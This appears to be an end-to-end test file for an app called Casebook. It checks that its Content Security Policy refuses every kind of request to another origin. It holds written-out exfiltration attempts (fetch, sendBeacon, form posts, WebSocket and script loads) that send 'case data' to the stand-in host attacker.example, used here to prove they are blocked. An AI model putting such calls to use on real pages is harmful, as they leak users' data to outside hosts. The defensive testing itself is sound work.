import { expect, it } from 'vitest';
import { describeE2E, openApp } from './harness.ts';
import { BLOCKED_BY_CSP } from './rig/page-watch.ts';

const REMOTE = 'https://attacker.example';

describeE2E('the window and the network', () => {
  it('reaches no other origin by any of the ways a page can: the CSP refuses each before it is sent', async () => {
    const app = await openApp();
    const { page } = app;
    await page.getByRole('main').getByRole('heading', { name: 'Welcome to Casebook' }).waitFor();
    const requestsBefore = app.record.requests.length;

    const outcomes = await page.evaluate(async (remote) => {
      const settle = (attempt: () => Promise<unknown>) =>
        attempt().then(
          () => 'sent',
          (error: unknown) => (error instanceof Error ? error.name : String(error)),
        );
      const element = (tag: string, attributes: Record<string, string>) => {
        const node = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
        document.body.append(node);
        return node;
      };
      element('img', { src: `${remote}/pixel.png`, alt: '' });
      element('link', { rel: 'stylesheet', href: `${remote}/style.css` });
      element('link', { rel: 'prefetch', href: `${remote}/next.html` });
      element('iframe', { src: `${remote}/frame.html`, title: 'remote' });
      element('object', { data: `${remote}/movie.swf` });
      element('audio', { src: `${remote}/sound.mp3` });
      element('video', { src: `${remote}/clip.mp4` });
      const script = element('script', { src: `${remote}/script.js` });
      const form = element('form', { action: `${remote}/collect`, method: 'post' }) as HTMLFormElement;
      form.requestSubmit();
      try {
        new WebSocket('wss://attacker.example/socket').close();
      } catch {
        // Refused either way: by an exception or by an error event and a violation report.
      }
      let worker = 'started';
      try {
        new Worker(`${remote}/worker.js`);
      } catch (error) {
        worker = error instanceof Error ? error.name : String(error);
      }
      navigator.sendBeacon(`${remote}/beacon`, 'case data'); // queued, then refused by connect-src
      const fetched = await settle(() => fetch(`${remote}/api`, { method: 'POST', body: 'case data' }));
      const xhr = await settle(
        () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.open('GET', `${remote}/xhr`);
            request.onload = resolve;
            request.onerror = () => reject(new TypeError('blocked'));
            request.send();
          }),
      );
      const events = new EventSource(`${remote}/events`);
      events.close();
      await new Promise((resolve) => setTimeout(resolve, 500));
      script.remove();
      return { worker, fetched, xhr };
    }, REMOTE);

    expect(outcomes).toEqual({ worker: 'SecurityError', fetched: 'TypeError', xhr: 'TypeError' });
    // Each attempt is refused by the policy before it is sent, and reported as a violation.
    const expected = [
      'img-src',
      'style-src-elem',
      'frame-src',
      'object-src',
      'media-src',
      'script-src-elem',
      'connect-src',
      'form-action',
    ];
    await expect
      .poll(() => {
        const seen = new Set(app.record.cspViolations.map((violation) => violation.directive));
        return expected.filter((directive) => !seen.has(directive));
      })
      .toEqual([]);
    app.takeCspViolations();
    // Chromium reports some of them as requests that failed with 'csp': refused before they were sent.
    expect(
      app.record.requests.slice(requestsBefore).filter((request) => request.failure !== BLOCKED_BY_CSP),
      'requests after the page loaded that the CSP did not refuse',
    ).toEqual([]);
    expect(app.requestsLeavingOrigin()).toEqual([]);
    await app.close();
  });

  it('fails the session when the page does reach another origin, naming the URL', async () => {
    const app = await openApp();
    const { page } = app;
    await page.getByRole('main').getByRole('heading', { name: 'Welcome to Casebook' }).waitFor();
    // A top-level navigation is the one thing the CSP cannot stop (the app's main process does:
    // will-navigate, test/electron/security.test.ts). Nothing listens on port 9 of 127.0.0.2.
    const elsewhere = 'http://127.0.0.2:9/leak?case=1';
    await page.evaluate((url) => window.location.assign(url), elsewhere).catch(() => undefined);
    await expect.poll(() => app.requestsLeavingOrigin().map((request) => request.url)).toEqual([elsewhere]);
    await expect.poll(() => page.url()).toMatch(/^chrome-error:/u); // the failed navigation settles first
    await page.goto(`${app.origin}/index.html`);
    await page.getByRole('main').getByRole('heading', { name: 'Welcome to Casebook' }).waitFor();
    await expect(app.close()).rejects.toThrow(`request left the local origin: GET ${elsewhere}`);
  });
});
